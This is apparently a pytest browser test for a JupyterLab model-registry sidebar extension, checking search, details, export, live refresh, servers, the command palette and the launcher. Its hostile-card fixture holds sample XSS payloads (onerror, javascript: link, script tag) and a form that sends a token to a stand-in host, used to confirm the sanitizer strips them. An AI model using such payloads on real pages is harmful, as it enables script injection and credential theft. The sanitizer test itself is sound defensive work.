"""The JupyterLab sidebar as a person sees it: JupyterLab in headless Chromium, judged by the
page. The extension is the one `make install` built and installed (labextension/ built into
the package, the server extension enabled by its config file), not a copy made for the test.

A real registry (tiny@1, a torch MLP with a card; tiny@2, its ONNX export; other@1) is built
first. The test opens the sidebar from its icon, searches, opens a version, inserts the line
that exports it into a notebook and runs it, and sees the new version appear without a
reload; then an alias moved from a terminal (the `maas` command), a version deleted behind
the open detail, the command palette and the launcher card. The browser console must stay
free of errors throughout. Needs Debian's chromium (skipped without it, failed under $CI).
Screenshots go to tests/screenshots/ (git-ignored).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import lab_browser
import pytest
from registry_edits import delete_version

pytestmark = pytest.mark.slow

SIDEBAR = '[id="maas-lab:models"]'
ROWS = f"{SIDEBAR} .maas-row"
DETAIL = f"{SIDEBAR} .maas-detail"
SAME_REFS = """([selector, want]) => {
  const got = [...document.querySelectorAll(selector)].map(r => r.dataset.ref);
  return JSON.stringify(got) === JSON.stringify(want);
}"""
# A card from someone's bundle that tries what JupyterLab's own sanitizer lets through: a
# button that runs a Lab command when clicked, a form posing as a dialog, media and styles
# that fetch from elsewhere, plus the classics the sanitizer removes anyway.
HOSTILE_CARD = """# Forecaster

Plain **text** stays.

<button data-commandlinker-command="maas-lab:stop-server" data-commandlinker-args='{"name": "x"}'>
Click me</button>
<form action="https://example.invalid/steal"><input name="token" placeholder="token"></form>
<img src="https://example.invalid/pixel.png" alt="tracker">
<video poster="https://example.invalid/poster.png" src="https://example.invalid/v.mp4"></video>
<p style="background-image: url(https://example.invalid/bg.png)">styled</p>
<img src="x" onerror="window.__maasOwned = 1">
<a href="javascript:window.__maasOwned = 2">js link</a>
<script>window.__maasOwned = 3</script>
"""
CARD_LEAKS = """(selector) => {
  const card = document.querySelector(selector);
  if (!card) return 'no card';
  const bad = card.querySelectorAll(
    'button, form, input, video, audio, script, iframe, [style], [onerror], ' +
    '[data-commandlinker-command], a[href^="javascript:"]');
  const remote = [...card.querySelectorAll('img')].filter(i => !i.src.startsWith('data:'));
  return [...bad, ...remote].map(e => e.outerHTML.slice(0, 120));
}"""
PALETTE_JS = """async () => {
  await window.jupyterapp.commands.execute('apputils:activate-command-palette');
  const input = document.querySelector('.jp-ModalCommandPalette .lm-CommandPalette-input');
  input.value = 'maas:';
  input.dispatchEvent(new Event('input', { bubbles: true }));
  for (let i = 0; i < 50; i++) {
    await new Promise(r => requestAnimationFrame(r));
    const texts = [...document.querySelectorAll(
      '.jp-ModalCommandPalette .lm-CommandPalette-itemLabel')].map(e => e.textContent);
    if (texts.filter(t => t.startsWith('maas:')).length >= 8) return texts;
  }
  return [];
}"""
HAS_TEXT = """([selector, text]) => {
  const el = document.querySelector(selector);
  return !!el && el.innerText.includes(text);
}"""


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    torch = pytest.importorskip("torch")
    from safetensors.torch import save_file

    from maas_lab import api
    from maas_lab.zoo import mlp

    folder = tmp_path_factory.mktemp("sidebar")
    home = folder / "registry"
    torch.manual_seed(0)
    config = {"in_features": 8, "hidden": 16, "out_features": 3}
    weights, card = folder / "tiny.safetensors", folder / "tiny.md"
    save_file(mlp(**config).state_dict(), str(weights))
    card.write_text("# Tiny MLP\n\nEight features in, **three** classes out.\n")
    common = {
        "from_torch": "maas_lab.zoo:mlp",
        "config": config,
        "weights": weights,
        "inputs": ["input:float32:batch,8"],
    }
    try:
        api.register("tiny", task="classification", card=card, root=home, **common)
        api.export("tiny@1", "onnx", root=home)
        hostile = folder / "other.md"
        hostile.write_text(HOSTILE_CARD)
        api.register("other", description="about forecasting", card=hostile, root=home, **common)
        yield home
    finally:
        api.close_all()


@pytest.fixture(scope="module")
def lab(home):
    yield from lab_browser.running(home)


def refs(nb) -> list[str]:
    return nb.attrs(ROWS, "data-ref")


def wait_refs(nb, want: list[str], what: str, timeout: float = 20) -> None:
    try:
        nb.wait_until(SAME_REFS, [ROWS, want], timeout=timeout)
    except AssertionError as exc:
        raise AssertionError(f"{what}: rows {refs(nb)}, expected {want}") from exc


def wait_text(nb, selector: str, text: str, timeout: float = 20) -> None:
    try:
        nb.wait_until(HAS_TEXT, [selector, text], timeout=timeout)
    except AssertionError as exc:
        shown = " ".join(nb.texts(selector))[:1500]
        raise AssertionError(f"{selector} never showed {text!r}; it shows: {shown}") from exc


def console_errors(nb) -> list[str]:
    return [line for line in nb.console if line.startswith(("error:", "pageerror:"))]


def test_sidebar_search_detail_insert_run_and_live_refresh(lab, home):
    from maas_lab import api

    lab_browser.write_notebook(lab.root / "work.ipynb", ["%load_ext maas_lab"])
    nb = lab.open("work.ipynb")
    nb.run_all()

    # The Models icon in the left sidebar opens the panel: every version, newest first.
    nb.click('.jp-SideBar [data-id="maas-lab:models"]')
    wait_refs(nb, ["other@1", "tiny@2", "tiny@1"], "all versions")
    status = " ".join(nb.texts(f"{SIDEBAR} .maas-status"))
    assert "3 version(s) of 2 model(s)" in status, status
    nb.screenshot("lab-sidebar")

    # Live search, ranked; search syntax is read as plain words, not an error.
    nb.type(f"{SIDEBAR} .maas-search", "forecasting")
    wait_refs(nb, ["other@1"], "search 'forecasting'")
    nb.type(f"{SIDEBAR} .maas-search", '"tiny AND')
    wait_refs(nb, ["tiny@2", "tiny@1"], "search with a stray quote")
    nb.screenshot("lab-search")
    nb.type(f"{SIDEBAR} .maas-search", "")
    wait_refs(nb, ["other@1", "tiny@2", "tiny@1"], "search cleared")

    # A click opens the details: files with digests, signature, card, lineage, snippets.
    nb.click(f'{ROWS}[data-ref="tiny@2"]')
    wait_text(nb, DETAIL, "model.onnx")
    shown = " ".join(nb.texts(DETAIL))
    (onnx,) = api.show("tiny@2", root=home)["files"]
    assert onnx["sha256"][:12] in shown, shown[:2000]
    assert "tiny@1" in shown and "export onnx" in shown, shown[:2000]
    assert "%maas serve tiny@2" in shown and "%maas compress tiny@2 --with ort-int8" in shown
    nb.click(f'{ROWS}[data-ref="tiny@1"]')
    wait_text(nb, f"{DETAIL} .maas-card", "Eight features in")
    assert nb.count(f"{DETAIL} .maas-card strong") == 1  # Markdown rendered, not shown raw
    nb.screenshot("lab-detail")

    # Insert the export line into the notebook, run it: the new version appears by itself.
    nb.click(f'{DETAIL} .maas-snippet[data-action="export"] .maas-insert')
    nb.wait_until(
        "() => window.__maasNb.content.widgets.length === 2 && window.__maasNb.content"
        ".widgets[1].model.sharedModel.getSource() === '%maas export tiny@1 --to onnx'"
    )
    nb.run_cell(1, timeout=120)
    wait_refs(nb, ["tiny@3", "other@1", "tiny@2", "tiny@1"], "after the inserted export ran")
    nb.screenshot("lab-after-export")

    # A change from a terminal (the maas command, another process) shows up too.
    env = {**os.environ, "MAAS_LAB_HOME": str(home)}
    maas = Path(sys.executable).parent / "maas"
    subprocess.run([str(maas), "alias", "tiny", "staging", "3"], env=env, check=True)
    wait_text(nb, f'{ROWS}[data-ref="tiny@3"]', "staging")

    # Start a server for the open version from its detail, see it listed there, stop it.
    nb.click(f'{ROWS}[data-ref="tiny@3"]')
    wait_text(nb, DETAIL, "Not served")
    nb.click(f"{DETAIL} .maas-start-server")
    nb.wait(f"{DETAIL} .maas-server-row", timeout=120)
    (server,) = api.status(root=home)
    assert server["model"] == "tiny@3" and server["url"].startswith("http://127.0.0.1:")
    assert server["url"] in " ".join(nb.texts(DETAIL))
    nb.screenshot("lab-serving")
    nb.click(f"{DETAIL} .maas-server-row .maas-stop")
    wait_text(nb, DETAIL, "Not served", timeout=120)
    assert len(api.status(root=home)) == 0

    # A server started elsewhere (another process, as a notebook's %maas serve) shows up in
    # the open detail, though it changes no registry revision; and goes when it stops.
    handle = api.serve("tiny@3", port=0, root=home)
    try:
        nb.wait(f'{DETAIL} .maas-server-row[data-server="{handle.name}"]', timeout=30)
    finally:
        api.stop(handle.name, root=home)
    wait_text(nb, DETAIL, "Not served", timeout=30)

    assert console_errors(nb) == [], console_errors(nb)


def test_a_version_deleted_behind_the_open_detail_is_said_to_be_gone(lab, home):
    lab_browser.write_notebook(lab.root / "gone.ipynb", ["%load_ext maas_lab"])
    nb = lab.open("gone.ipynb")
    nb.click('.jp-SideBar [data-id="maas-lab:models"]')
    nb.wait(f'{ROWS}[data-ref="other@1"]')
    nb.click(f'{ROWS}[data-ref="other@1"]')
    wait_text(nb, DETAIL, "about forecasting")
    wait_text(nb, f"{DETAIL} .maas-card", "Plain text stays.")
    assert nb.js(CARD_LEAKS, f"{DETAIL} .maas-card") == []
    card = " ".join(nb.texts(f"{DETAIL} .maas-card"))
    assert "[tracker: https://example.invalid/pixel.png]" in card, card  # said, not fetched
    assert nb.js("async () => window.__maasOwned === undefined")
    nb.screenshot("lab-hostile-card")
    delete_version(home, "other", 1)  # another tool, a restored backup
    wait_text(nb, DETAIL, "other@1 no longer exists")
    nb.wait_until("(gone) => !document.querySelector(gone)", f'{ROWS}[data-ref="other@1"]')
    nb.screenshot("lab-deleted")
    # The browser logs the 404 answer itself as a failed resource; nothing else may appear.
    unexpected = [e for e in console_errors(nb) if "status of 404" not in e]
    assert unexpected == [], unexpected


def test_command_palette_and_launcher_card(lab):
    lab_browser.write_notebook(lab.root / "palette.ipynb", ["1 + 1"])
    nb = lab.open("palette.ipynb")
    labels = nb.js(
        "async () => window.jupyterapp.commands.listCommands()"
        ".filter(id => id.startsWith('maas-lab:'))"
        ".map(id => window.jupyterapp.commands.label(id))"
    )
    for wanted in ("load", "export", "compress", "serve", "alias", "server", "notebook"):
        assert any(wanted in label.lower() for label in labels), (wanted, labels)
    assert all(label.startswith("maas: ") for label in labels if label), labels

    # Lab closes a modal palette that loses focus, which happens while a freshly opened page
    # settles: open it, type and read what it lists in one step, as fast as a person types.
    shown = nb.js(PALETTE_JS)
    assert {label for label in labels if label} <= set(shown), (labels, shown)
    nb.screenshot("lab-palette")
    nb.page.keyboard.press("Escape")

    # The launcher card opens a notebook whose first cell loads the extension.
    nb.js("async () => { await window.jupyterapp.commands.execute('launcher:create'); }")
    nb.click_text("maas_lab notebook", within=".jp-Launcher")
    first = nb.wait_until(
        "() => { const w = window.jupyterapp.shell.currentWidget;"
        " const cells = w && w.content && w.content.widgets;"
        " return cells && cells.length ? cells[0].model.sharedModel.getSource() : false; }",
        timeout=60,
    )
    assert first == "%load_ext maas_lab", first
    nb.screenshot("lab-launcher-notebook")
    assert console_errors(nb) == [], console_errors(nb)
